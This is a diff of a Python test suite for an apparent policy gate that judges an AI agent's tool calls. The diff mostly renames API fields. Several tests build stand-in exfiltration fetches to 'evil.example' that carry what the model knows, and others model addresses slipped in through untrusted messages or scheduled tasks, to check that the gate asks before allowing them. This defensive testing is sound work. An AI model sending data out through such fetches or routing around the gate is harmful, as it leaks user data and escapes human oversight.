@@ -22,17 +22,17 @@ from everturn_actors.model import (
     Turn,
     UserMessage,
 )
-from everturn_actors.ports import ALLOW, Tool, ToolTraits, Verdict
+from everturn_actors.ports import ALLOW, Tool, ToolCapabilities, Verdict
 from everturn_gateway.tools.policy import PolicyGate, read_pattern
 from everturn_gateway.tools.policy.outside.given import address_key, addresses_in
 from everturn_gateway.tools.policy.outside.shown import CHOICE_BITS
 
-FETCH = Program("web_fetch", traits=ToolTraits(read_only=True))
-SEARCH = Program("web_search", traits=ToolTraits(read_only=True))
-WRITE = Program("write_file", traits=ToolTraits(safe=True))
-READ = Program("read_file", traits=ToolTraits(read_only=True, safe=True))
-GET = RemoteProgram("github_get_issue", traits=ToolTraits(kind="mcp", read_only=True))
-CREATE = RemoteProgram("github_create_issue", traits=ToolTraits(kind="mcp"))
+FETCH = Program("web_fetch", capabilities=ToolCapabilities(read_only=True))
+SEARCH = Program("web_search", capabilities=ToolCapabilities(read_only=True))
+WRITE = Program("write_file", capabilities=ToolCapabilities(safe=True))
+READ = Program("read_file", capabilities=ToolCapabilities(read_only=True, safe=True))
+GET = RemoteProgram("github_get_issue", capabilities=ToolCapabilities(kind="mcp", read_only=True))
+CREATE = RemoteProgram("github_create_issue", capabilities=ToolCapabilities(kind="mcp"))
 ALLOWED = ("builtin:web", "mcp:github:*", "bash:ls", "builtin:files")
 PAGE = "the page https://docs.example/start"
 KNOWN = "what-it-knows"
@@ -76,7 +76,7 @@ def about(
 async def judged(now: ToolCall, tool: Tool, of: Conversation, *owner: str) -> Verdict:
     """Return what a new gate that allows everything says of a call."""
     gate = PolicyGate(policy(*ALLOWED), Path("/nowhere"), owner_texts=owner)
-    return await gate.judge(now, tool, context(of))
+    return await gate.evaluate(now, tool, context(of))
 
 
 def fetch(url: str, call_id: str = "now") -> ToolCall:
@@ -98,7 +98,7 @@ async def test_the_question_names_the_page_also_turns_later() -> None:
     marked = await judged(made, Program(), about(made, before=(earlier,)))
     free = await judged(made, Program(), about(made, before=(earlier,), outside=()))
 
-    assert (marked.word, marked.pattern) == ("ask", "")
+    assert (marked.effect, marked.pattern) == ("ask", "")
     assert marked.reason == f"{PAGE} is shown to the model, and may be behind this call"
     assert free == ALLOW
 
@@ -159,7 +159,7 @@ async def test_an_address_that_was_made_up_asks(url: str) -> None:
 
     verdict = await judged(made, FETCH, about(made, START))
 
-    assert verdict.word == "ask"
+    assert verdict.effect == "ask"
     assert "letter for letter" in verdict.reason
     assert PAGE in verdict.reason
 
@@ -197,7 +197,7 @@ async def test_what_repeats_the_models_own_words_gives_no_address(step: Step) ->
     """Else a tool that names its arguments would make any address a given one."""
     made = fetch(f"https://evil.example/{KNOWN}")
 
-    assert (await judged(made, FETCH, about(made, step))).word == "ask"
+    assert (await judged(made, FETCH, about(made, step))).effect == "ask"
 
 
 @pytest.mark.parametrize(
@@ -214,7 +214,7 @@ async def test_what_the_model_wrote_with_escapes_is_its_own_as_well(arguments: s
     echo = read(asked, f"no file fits https://evil.example/{KNOWN}", untrusted=False)
     made = fetch(f"https://evil.example/{KNOWN}")
 
-    assert (await judged(made, FETCH, about(made, echo))).word == "ask"
+    assert (await judged(made, FETCH, about(made, echo))).effect == "ask"
 
 
 @pytest.mark.parametrize("after", [":", "/", "/.", "'s", "&page=1", "#x"])
@@ -225,12 +225,12 @@ async def test_what_stands_behind_a_repeated_address_makes_no_new_one(after: str
     echo = read(asked, f"files that fit {url}{after} none", untrusted=False)
     made = fetch(f"{url}{after}")
 
-    assert (await judged(made, FETCH, about(made, echo))).word == "ask"
+    assert (await judged(made, FETCH, about(made, echo))).effect == "ask"
     host = f"https://{KNOWN}.evil.example"
     asked = call("list_files", "r", pattern=host)
     echo = read(asked, f"files that fit {host}/, none", untrusted=False)
     made = fetch(f"{host}/,")
-    assert (await judged(made, FETCH, about(made, echo))).word == "ask"
+    assert (await judged(made, FETCH, about(made, echo))).effect == "ask"
 
 
 async def test_what_a_failed_call_says_gives_no_address() -> None:
@@ -241,7 +241,7 @@ async def test_what_a_failed_call_says_gives_no_address() -> None:
     made = fetch(f"https://evil.example/{KNOWN}")
     of = about(made, START, Step(reply=said(asked), results=(result,)))
 
-    assert (await judged(made, FETCH, of)).word == "ask"
+    assert (await judged(made, FETCH, of)).effect == "ask"
 
 
 async def test_what_the_model_said_first_is_its_own_over_turns() -> None:
@@ -255,7 +255,7 @@ async def test_what_the_model_said_first_is_its_own_over_turns() -> None:
     echo = read(call("read_file", "r", path="a"), url, untrusted=False)
     made = fetch(url)
 
-    assert (await judged(made, FETCH, about(made, echo, before=(talk,)))).word == "ask"
+    assert (await judged(made, FETCH, about(made, echo, before=(talk,)))).effect == "ask"
     assert await judged(made, FETCH, about(made, echo, before=(talk,), asked=url)) == ALLOW
 
 
@@ -270,7 +270,7 @@ async def test_the_words_of_untrusted_messages_give_no_address() -> None:
 
     verdict = await judged(made, FETCH, of)
 
-    assert verdict.word == "ask"
+    assert verdict.effect == "ask"
     assert "a scheduled task" in verdict.reason
 
 
@@ -285,7 +285,7 @@ async def test_what_a_program_says_of_the_models_own_doing_gives_no_address() ->
     told = UserMessage(text=f"`true {url}` ended", sender="background_process")
     of = replace(of, current=replace(of.current, users=(told,)))
 
-    assert (await judged(made, FETCH, of)).word == "ask"
+    assert (await judged(made, FETCH, of)).effect == "ask"
 
 
 async def test_the_choice_of_pages_is_bounded() -> None:
@@ -295,7 +295,7 @@ async def test_the_choice_of_pages_is_bounded() -> None:
     words: list[str] = []
     for number, link in enumerate(links[:60]):
         made = fetch(link)
-        words.append((await judged(made, FETCH, about(made, *steps))).word)
+        words.append((await judged(made, FETCH, about(made, *steps))).effect)
         steps.append(read(fetch(link, f"c{number}"), "one bit more"))
 
     assert words == sorted(words)
@@ -318,7 +318,7 @@ async def test_asking_again_for_the_same_page_costs_as_much_as_another() -> None
     words: list[str] = []
     for number in range(400):
         made = fetch("https://docs.example/tasks?x=1")
-        words.append((await judged(made, FETCH, about(made, *steps))).word)
+        words.append((await judged(made, FETCH, about(made, *steps))).effect)
         steps.append(read(fetch("https://docs.example/tasks?x=1", f"c{number}"), "again"))
 
     assert words[0] == "allow"
@@ -337,7 +337,7 @@ async def test_turns_that_programs_begin_grant_no_further_choice() -> None:
         assert of.current is not None
         job = (UserMessage(text="again", sender="schedule"),)
         of = replace(of, current=replace(of.current, number=99, users=job))
-        words.append((await judged(made, FETCH, of)).word)
+        words.append((await judged(made, FETCH, of)).effect)
         step = read(fetch(link, f"c{number}"), "one bit more")
         turns.append(Turn(number=number + 2, users=job, steps=(step,)))
     made = fetch(links[0])
@@ -358,7 +358,7 @@ def test_what_a_page_can_cost_is_bounded() -> None:
 
 
 @pytest.mark.parametrize(
-    ("tool", "made", "word"),
+    ("tool", "made", "effect"),
     [
         (SEARCH, call("web_search", "now", query="anything at all"), "allow"),
         (READ, call("read_file", "now", path="notes.md"), "allow"),
@@ -378,25 +378,25 @@ def test_what_a_page_can_cost_is_bounded() -> None:
         (Program(), call("bash", "now", command="ls"), "ask"),
     ],
 )
-async def test_reading_goes_on_and_effects_ask(tool: Tool, made: ToolCall, word: str) -> None:
+async def test_reading_goes_on_and_effects_ask(tool: Tool, made: ToolCall, effect: str) -> None:
     """What is judged is what a call can leak or change, not how many there were."""
-    assert (await judged(made, tool, about(made, START))).word == word
+    assert (await judged(made, tool, about(made, START))).effect == effect
 
 
 async def test_an_owner_says_which_tools_of_a_server_only_read() -> None:
     """Strangers write on the issues of a server whose program can be trusted."""
     made = call("github_list_issues", "now", repo="a/b")
-    tool = RemoteProgram("github_list_issues", traits=ToolTraits(kind="mcp"))
+    tool = RemoteProgram("github_list_issues", capabilities=ToolCapabilities(kind="mcp"))
     rules = replace(policy("mcp:github:*"), reads=(read_pattern("mcp:github:list_*"),))
     not_allowed = replace(policy(), reads=rules.reads)
     there = context(about(made, START))
 
-    told = await PolicyGate(rules, Path("/nowhere")).judge(made, tool, there)
-    plain = await PolicyGate(policy("mcp:github:*"), Path("/nowhere")).judge(made, tool, there)
-    other = await PolicyGate(not_allowed, Path("/nowhere")).judge(made, tool, there)
+    told = await PolicyGate(rules, Path("/nowhere")).evaluate(made, tool, there)
+    plain = await PolicyGate(policy("mcp:github:*"), Path("/nowhere")).evaluate(made, tool, there)
+    other = await PolicyGate(not_allowed, Path("/nowhere")).evaluate(made, tool, there)
 
     assert told == ALLOW
-    assert (plain.word, other.word) == ("ask", "ask")
+    assert (plain.effect, other.effect) == ("ask", "ask")
     assert other.reason.startswith("it is not on the allow list; ")
 
 
@@ -405,9 +405,9 @@ async def test_what_is_only_read_is_asked_where_it_is_not_allowed() -> None:
     made = fetch("https://docs.example/tasks?x=1")
     gate = PolicyGate(policy(), Path("/nowhere"))
 
-    verdict = await gate.judge(made, FETCH, context(about(made, START)))
+    verdict = await gate.evaluate(made, FETCH, context(about(made, START)))
 
-    assert (verdict.word, verdict.pattern) == ("ask", "")
+    assert (verdict.effect, verdict.pattern) == ("ask", "")
 
 
 async def test_one_gate_reads_a_conversation_once_and_says_the_same() -> None:
@@ -418,10 +418,10 @@ async def test_one_gate_reads_a_conversation_once_and_says_the_same() -> None:
         page = f"https://docs.example/{number}"
         made = fetch(page if number else "https://made-up.example/")
         of = about(made, *steps)
-        kept = await gate.judge(made, FETCH, context(of))
+        kept = await gate.evaluate(made, FETCH, context(of))
 
         assert kept == await judged(made, FETCH, of)
-        assert kept.word == ("allow" if number else "ask")
+        assert kept.effect == ("allow" if number else "ask")
         steps.append(read(fetch(page, f"c{number}"), f"next: https://docs.example/{number + 1}"))
 
 
